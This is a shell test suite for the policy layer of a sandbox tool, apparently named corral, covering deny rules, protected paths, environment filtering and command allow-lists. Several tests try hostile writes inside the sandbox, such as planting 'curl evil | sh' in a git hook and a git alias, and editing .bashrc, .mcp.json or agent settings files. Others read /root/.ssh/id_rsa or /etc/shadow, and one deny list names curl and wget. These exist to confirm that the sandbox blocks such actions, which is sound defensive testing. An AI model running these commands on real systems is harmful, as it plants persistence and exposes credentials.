# Policy: profiles, filesystem/env/command rules, protected paths, explain and query
# (issue: policy). Sandbox claims are judged on the host.

test_policy_deny_inside_allowed_tree() {
	mkdir -p "$WS/secrets" "$WS/src"
	echo "top-secret-$RANDOM" >"$WS/secrets/key"
	local secret; secret=$(cat "$WS/secrets/key")
	local before; before=$(sha256sum "$WS/secrets/key")
	local out
	out=$(cr --hide secrets -c 'cat secrets/key; ls secrets; echo pwned > secrets/key; echo new > secrets/new; echo ok > src/ok' 2>&1)
	assert_not_contains "$out" "$secret"
	assert_eq "$(sha256sum "$WS/secrets/key")" "$before" "the denied file changed on the host"
	[ ! -e "$WS/secrets/new" ] || fail "a file was created inside the denied tree"
	assert_eq "$(cat "$WS/src/ok")" ok "the rest of the workspace stays writable"
	# a profile with the same rule, and a file in the deny list
	cat >"$WS/p.json" <<'J'
{"filesystem": {"deny": ["secrets/key"]}}
J
	out=$(cr --profile "$WS/p.json" -c 'cat secrets/key' 2>&1)
	assert_not_contains "$out" "$secret"
}

test_policy_deny_enforced_by_landlock_alone() {
	# without namespaces (no mount masks) the deny rule must still hold: Landlock rules
	# are expanded around the denied path
	mkdir -p "$WS/secrets" "$WS/src"
	echo "ll-secret-$RANDOM" >"$WS/secrets/key"
	local secret; secret=$(cat "$WS/secrets/key")
	local out
	out=$("$NOLAYER" userns -- "$CORRAL" run -w "$WS" --mode auto --json --hide secrets -c 'cat secrets/key; echo x > src/made' 2>&1)
	assert_eq "$(jget isolation.userns.applied <<<"$out")" false
	assert_not_contains "$(jget stdout <<<"$out")" "$secret"
	assert_eq "$(cat "$WS/src/made")" x
}

test_policy_protected_existing() {
	mkdir -p "$WS/.git/hooks"
	printf '#!/bin/sh\necho original\n' >"$WS/.git/hooks/pre-commit"
	printf '[core]\n' >"$WS/.git/config"
	local h1 h2
	h1=$(sha256sum "$WS/.git/hooks/pre-commit")
	h2=$(sha256sum "$WS/.git/config")
	cr -c 'echo "curl evil | sh" > .git/hooks/pre-commit; echo "[alias] x = !evil" >> .git/config; touch .git/hooks/post-checkout' 2>/dev/null
	assert_eq "$(sha256sum "$WS/.git/hooks/pre-commit")" "$h1"
	assert_eq "$(sha256sum "$WS/.git/config")" "$h2"
	[ ! -e "$WS/.git/hooks/post-checkout" ] || fail "a new hook was planted"
}

test_policy_protected_created_later() {
	# none of these exist before the run: they must not exist after it either
	cr -c 'echo "{\"mcpServers\":{}}" > .mcp.json; mkdir -p .vscode && echo "{}" > .vscode/tasks.json; echo evil >> .bashrc; mkdir .claude; echo x > .claude/settings.json' 2>/dev/null
	for f in .mcp.json .vscode .bashrc .claude .zshrc .idea; do
		[ ! -e "$WS/$f" ] || fail "$f exists on the host after the run"
	done
	# and the placeholders are gone: the workspace is as it was
	assert_eq "$(ls -A "$WS")" ""
}

test_policy_protected_custom_list() {
	cat >"$WS/p.json" <<'J'
{"filesystem": {"protected": ["Makefile"]}}
J
	echo 'all:' >"$WS/Makefile"
	cr --profile "$WS/p.json" -c 'echo hacked > Makefile; echo x > .mcp.json' 2>/dev/null
	assert_eq "$(cat "$WS/Makefile")" "all:"
	# the default list was replaced: .mcp.json is writable now
	assert_eq "$(cat "$WS/.mcp.json")" x
}

test_policy_protected_concurrent_runs() {
	# two runs in one workspace: the first one's cleanup must not lift the second's guard
	cr -c 'sleep 0.3' &
	local a=$!
	sleep 0.1
	cr -c 'sleep 0.8; echo evil > .mcp.json' 2>/dev/null &
	local b=$!
	wait $a $b
	[ ! -s "$WS/.mcp.json" ] || fail ".mcp.json was written: $(cat "$WS/.mcp.json")"
	# the first run made the placeholders and ended first; the last one to let go of them
	# removes them, so overlapping runs leave the workspace as it was
	assert_eq "$(ls -A "$WS")" "" "placeholders left behind by overlapping runs"
}

test_policy_protected_overlap_keeps_user_files() {
	# an empty file of the user's own on the protected list is not a placeholder: it stays,
	# while the placeholders of four overlapping runs all go
	: >"$WS/.bashrc"
	local i pids=()
	for i in 1 2 3 4; do
		cr -c "sleep 0.$i" 2>/dev/null &
		pids+=($!)
	done
	wait "${pids[@]}"
	assert_eq "$(ls -A "$WS")" ".bashrc" "the workspace after four overlapping runs"
}

test_policy_readonly_profile() {
	echo orig >"$WS/f"
	local out
	out=$(cr --profile readonly --json -c 'echo changed > f; echo y > new; cat f')
	assert_eq "$(cat "$WS/f")" orig
	[ ! -e "$WS/new" ] || fail "created a file in a read-only workspace"
	assert_eq "$(jget stdout <<<"$out")" orig
}

test_policy_strict_profile() {
	local out
	out=$(cr --profile strict --json -- sh -c 'ls /etc; ulimit -n')
	local so; so=$(jget stdout <<<"$out")
	assert_contains "$so" "ld.so.cache"
	assert_not_contains "$so" "passwd"
	assert_contains "$so" "256"
}

test_policy_network_profile_marked() {
	local out
	out=$("$CORRAL" policy explain -w "$WS" --profile network --json)
	assert_contains "$(jget network <<<"$out")" "host"
	out=$(cr --profile network --json -- true)
	assert_contains "$(jget isolation.netns.detail <<<"$out")" "host network"
}

test_policy_flags_override_profile() {
	cat >"$WS/p.json" <<'J'
{"limits": {"timeout": "1s", "nofile": 100}, "network": "none"}
J
	assert_eq "$(cr --profile "$WS/p.json" -- sh -c 'ulimit -n')" 100
	assert_eq "$(cr --profile "$WS/p.json" --nofile 50 -- sh -c 'ulimit -n')" 50
	cr --profile "$WS/p.json" -- sleep 3 2>/dev/null; assert_eq $? 124
	cr --profile "$WS/p.json" -t 10 -- sleep 1.5; assert_eq $? 0
}

test_policy_ro_rw_extra_paths() {
	local ext ro_dir
	ext=$(mktemp -d /tmp/corral-ext.XXXXXX); ro_dir=$(mktemp -d /tmp/corral-ro.XXXXXX)
	chmod 777 "$ext"; chmod 755 "$ro_dir"
	echo data >"$ro_dir/in"
	cr --rw "$ext" --ro "$ro_dir" -c "cat $ro_dir/in > $ext/out; echo x > $ro_dir/bad" 2>/dev/null
	assert_eq "$(cat "$ext/out")" data
	[ ! -e "$ro_dir/bad" ] || fail "wrote into a --ro tree"
	rm -rf "$ext" "$ro_dir"
}

test_policy_env_globs() {
	local out
	out=$(LC_FOO=a LC_BAR=b MY_TOKEN=t0ken OTHER=o cr --env 'LC_*' --env MY_TOKEN -- env 2>"$WS/.err")
	assert_contains "$out" "LC_FOO=a"
	assert_contains "$out" "LC_BAR=b"
	assert_not_contains "$out" "OTHER=o"
	assert_not_contains "$out" "t0ken"
	assert_contains "$(cat "$WS/.err")" "withheld"
	# explicit set always applies, even for a denied name
	out=$(cr --env MY_TOKEN=explicit -- env)
	assert_contains "$out" "MY_TOKEN=explicit"
	# a profile with allow/deny/set
	cat >"$WS/p.json" <<'J'
{"env": {"allow": ["APP_*"], "deny": ["APP_SECRET*"], "set": {"MODE": "test"}}}
J
	out=$(APP_NAME=n APP_SECRET_X=s cr --profile "$WS/p.json" -- env)
	assert_contains "$out" "APP_NAME=n"
	assert_not_contains "$out" "APP_SECRET_X"
	assert_contains "$out" "MODE=test"
}

test_policy_command_deny_preflight() {
	cat >"$WS/p.json" <<'J'
{"commands": {"deny": [{"match": "curl", "reason": "no downloads here"}, "/usr/bin/wget"]}}
J
	local e
	e=$(cr --profile "$WS/p.json" -- curl http://example.com 2>&1); assert_eq $? 126
	assert_contains "$e" "no downloads here"
	e=$(cr --profile "$WS/p.json" -- /usr/bin/curl --version 2>&1); assert_eq $? 126
}

test_policy_command_allowlist_kernel_enforced() {
	cat >"$WS/p.json" <<'J'
{"commands": {"allow": ["sh", "echo", {"match": "cat", "reason": "reading is fine"}]}}
J
	echo hello >"$WS/in"
	# allowed: sh -c with echo and cat
	assert_eq "$(cr --profile "$WS/p.json" -c 'cat in; echo done')" "hello
done"
	# not allowed at the top: preflight, exit 126, nothing ran
	cr --profile "$WS/p.json" -- touch "$WS/m0" 2>/dev/null; assert_eq $? 126
	# not allowed inside: nested sh -c, $(...), an absolute path, a script, python
	printf '#!/bin/sh\ntouch m4\n' >"$WS/s.sh"; chmod +x "$WS/s.sh"
	cr --profile "$WS/p.json" -c 'sh -c "touch m1"; x=$(touch m2); /usr/bin/touch m3; ./s.sh; cp in m5; /usr/bin/python3 -c "open(\"m6\",\"w\")"' 2>/dev/null
	for m in m0 m1 m2 m3 m4 m5 m6; do
		[ ! -e "$WS/$m" ] || fail "$m was created: the allow-list was bypassed"
	done
	# control: without the allow-list the same command does create them
	cr -c 'sh -c "touch m1"; /usr/bin/touch m3'
	[ -e "$WS/m1" ] && [ -e "$WS/m3" ] || fail "control run did not create the markers"
}

test_policy_arg_confinement() {
	local e
	e=$(cr -- cat /root/.ssh/id_rsa 2>&1); assert_eq $? 126
	assert_contains "$e" "outside what the sandbox can see"
	e=$(cr --hide sec -- cat ./sec/x 2>&1); assert_eq $? 126
	assert_contains "$e" "hides"
	# paths inside the workspace, /tmp and the system are fine
	cr -- ls /usr/bin/env ./ /tmp >/dev/null; assert_eq $? 0
}

test_policy_validate_errors() {
	printf '{\n  "filesystem": {"read": ["a"]},\n  "limits": {"memory": "12Q"}\n}\n' >"$WS/bad.json"
	local e
	e=$("$CORRAL" policy validate "$WS/bad.json" 2>&1); assert_eq $? 125
	assert_contains "$e" "bad.json:3:"
	assert_contains "$e" "limits.memory"
	printf '{"netwrok": "none"}' >"$WS/bad2.json"
	e=$("$CORRAL" policy validate "$WS/bad2.json" 2>&1); assert_eq $? 125
	assert_contains "$e" "netwrok"
	assert_contains "$e" "network"
	printf '{"network": "none",}' >"$WS/bad3.json"
	e=$("$CORRAL" policy validate "$WS/bad3.json" 2>&1); assert_eq $? 125
	assert_contains "$e" "bad3.json:1:"
	e=$(cr --profile "$WS/bad2.json" -- true 2>&1); assert_eq $? 125
	assert_contains "$e" "netwrok"
	e=$(cr --profile nosuchprofile -- true 2>&1); assert_eq $? 125
	assert_contains "$e" "nosuchprofile"
	for f in "$DOCS"/examples/*.json; do
		"$CORRAL" policy validate "$f" >/dev/null || fail "example $f does not validate"
	done
}

test_policy_check_query() {
	local out
	out=$("$CORRAL" policy check -w "$WS" --read /etc/shadow --json); assert_eq $? 1
	assert_eq "$(jget allowed <<<"$out")" false
	out=$("$CORRAL" policy check -w "$WS" --write .mcp.json --json)
	assert_eq "$(jget allowed <<<"$out")" false
	assert_contains "$(jget rule <<<"$out")" protected
	out=$("$CORRAL" policy check -w "$WS" --write src/main.c --json); assert_eq $? 0
	assert_eq "$(jget allowed <<<"$out")" true
	out=$("$CORRAL" policy check -w "$WS" --net pypi.org:443 --json)
	assert_eq "$(jget allowed <<<"$out")" false
	out=$("$CORRAL" policy check -w "$WS" --profile network --net pypi.org:443 --json)
	assert_eq "$(jget allowed <<<"$out")" true
	out=$("$CORRAL" policy check -w "$WS" --exec sh --json)
	assert_eq "$(jget allowed <<<"$out")" true
}

test_policy_dry_run_matches_mountinfo() {
	mkdir -p "$WS/sec"
	local plan inside
	cr --dry-run --json --hide sec -- true >"$WS/../plan.$$.json"
	plan=$(cat "$WS/../plan.$$.json")
	[ "$(jget command.decision <<<"$plan")" = allowed ] || fail "dry-run decision"
	cr --hide sec -- cat /proc/self/mountinfo >"$WS/../mi.$$.txt"
	python3 - "$WS/../plan.$$.json" "$WS/../mi.$$.txt" "$WS" <<'PY' || fail "the plan and the sandbox's mounts differ"
import json, sys
plan = json.load(open(sys.argv[1])); mi = open(sys.argv[2]).read().splitlines(); ws = sys.argv[3]
mounted = set(l.split()[4] for l in mi)
kinds = lambda m: m["type"] not in ("symlink", "dir")
planned = set(m["target"] for m in plan["mounts"] if kinds(m) and not m.get("optional"))
optional = set(m["target"] for m in plan["mounts"] if kinds(m) and m.get("optional"))
planned |= set(plan["protected"])
missing = planned - mounted
extra = mounted - planned - optional - {"/"}
if missing or extra:
    print("missing:", sorted(missing), "extra:", sorted(extra)); sys.exit(1)
PY
	rm -f "$WS/../plan.$$.json" "$WS/../mi.$$.txt"
	# and nothing ran, nothing was created by the dry run
	assert_eq "$(ls -A "$WS")" "sec"
}

test_policy_explain_text() {
	local out
	out=$("$CORRAL" policy explain -w "$WS" --env HOME_SECRET_TOKEN -- ls)
	for w in "mounts:" "landlock: abi" "seccomp:" "limits:" "command: ls -> allowed"; do
		assert_contains "$out" "$w"
	done
	out=$(GITHUB_TOKEN=ghp_supersecret "$CORRAL" policy explain -w "$WS" -- ls)
	assert_contains "$out" "withheld: GITHUB_TOKEN"
	assert_not_contains "$out" "ghp_supersecret"
}
